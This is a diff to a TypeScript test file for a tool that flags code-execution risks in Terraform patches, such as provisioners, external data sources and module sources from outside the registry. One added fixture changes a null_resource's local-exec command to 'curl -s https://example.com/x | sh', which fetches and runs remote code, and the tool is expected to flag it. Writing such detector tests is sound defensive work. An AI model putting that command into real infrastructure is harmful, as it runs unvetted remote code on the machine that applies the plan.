@@ -47,6 +47,13 @@ const violations: Row[] = [
     after: `${INSTANCE}\nresource "terraform_data" "bootstrap" {\n  triggers_replace = [aws_instance.web.id]\n\n  provisioner "remote-exec" {\n    inline = ["sudo systemctl restart app"]\n  }\n}\n`,
     expected: [['code-execution', 'terraform_data.bootstrap is new or changed: it runs its provisioners (remote-exec) on apply']],
   },
+  {
+    name: 'a null_resource changes the command of its provisioner',
+    kind: 'terraform',
+    before: 'resource "null_resource" "seed" {\n  provisioner "local-exec" {\n    command = "./seed.sh"\n  }\n}\n',
+    after: 'resource "null_resource" "seed" {\n  provisioner "local-exec" {\n    command = "curl -s https://example.com/x | sh"\n  }\n}\n',
+    expected: [['code-execution', 'null_resource.seed is new or changed: it runs its provisioners (local-exec) on apply']],
+  },
   { name: 'an external data source appears', kind: 'terraform', before: INSTANCE, after: `${INSTANCE}\ndata "external" "token" {\n  program = ["python3", "token.py"]\n}\n`, expected: [['code-execution', 'data.external.token is new or changed: it runs a program when Terraform plans']] },
   { name: 'an http data source appears', kind: 'terraform', before: INSTANCE, after: `${INSTANCE}\ndata "http" "ip" {\n  url = "https://checkip.amazonaws.com"\n}\n`, expected: [['code-execution', 'data.http.ip is new or changed: it fetches a URL when Terraform plans']] },
   {
@@ -56,6 +63,8 @@ const violations: Row[] = [
     after: `${INSTANCE}\nmodule "hardening" {\n  source = "git::https://example.com/hardening.git?ref=v1"\n}\n`,
     expected: [['code-execution', 'module.hardening is new and comes from git::https://example.com/hardening.git?ref=v1, outside the Terraform registry']],
   },
+  { name: 'a registry module appears', kind: 'terraform', before: INSTANCE, after: `${INSTANCE}\n${NETWORK}`, expected: [['code-execution', 'module.network is new: the code of terraform-aws-modules/vpc/aws runs with the plan, and none of it is part of the patch']] },
+  { name: 'a local module appears', kind: 'terraform', before: INSTANCE, after: `${INSTANCE}\nmodule "tags" {\n  source = "../modules/tags"\n}\n`, expected: [['code-execution', 'module.tags is new: the code of ../modules/tags runs']] },
   { name: 'a module from a GitHub shorthand appears', kind: 'terraform', before: '', after: 'module "x" {\n  source = "github.com/acme/terraform-x"\n}\n', expected: [['code-execution', 'module.x is new and comes from github.com/acme/terraform-x']] },
   { name: 'a module source changes', kind: 'terraform', before: NETWORK, after: edit(NETWORK, '"terraform-aws-modules/vpc/aws"', '"s3::https://s3.amazonaws.com/acme/vpc.zip"'), expected: [['code-execution', 'module.network changes its source from terraform-aws-modules/vpc/aws to s3::https://s3.amazonaws.com/acme/vpc.zip']] },
   { name: 'a module version changes', kind: 'terraform', before: NETWORK, after: edit(NETWORK, '"5.8.1"', '"5.9.0"'), expected: [['code-execution', 'module.network changes its version from "5.8.1" to "5.9.0"']] },
@@ -88,8 +97,7 @@ const violations: Row[] = [
 
 const allowed: Row[] = [
   { name: 'a resource with a provisioner changes elsewhere', kind: 'terraform', before: PROVISIONED, after: edit(PROVISIONED, '"optional"', '"required"'), expected: [] },
-  { name: 'a registry module appears', kind: 'terraform', before: INSTANCE, after: `${INSTANCE}\n${NETWORK}`, expected: [] },
-  { name: 'a local module appears', kind: 'terraform', before: INSTANCE, after: `${INSTANCE}\nmodule "tags" {\n  source = "../modules/tags"\n}\n`, expected: [] },
+  { name: 'a null_resource with a provisioner stays as it is', kind: 'terraform', before: `${INSTANCE}\nresource "null_resource" "seed" {\n  provisioner "local-exec" {\n    command = "./seed.sh"\n  }\n}\n`, after: `${edit(INSTANCE, '"optional"', '"required"')}\nresource "null_resource" "seed" {\n  provisioner "local-exec" {\n    command = "./seed.sh"\n  }\n}\n`, expected: [] },
   { name: 'a module input changes', kind: 'terraform', before: NETWORK, after: edit(NETWORK, '"5.8.1"\n', '"5.8.1"\n\n  enable_flow_log = true\n'), expected: [] },
   { name: 'a function (YAML) with code in S3 changes its memory', kind: 'cloudformation', before: FUNCTION, after: edit(FUNCTION, '      Runtime: python3.12\n', '      Runtime: python3.12\n      MemorySize: 256\n'), expected: [] },
 ];
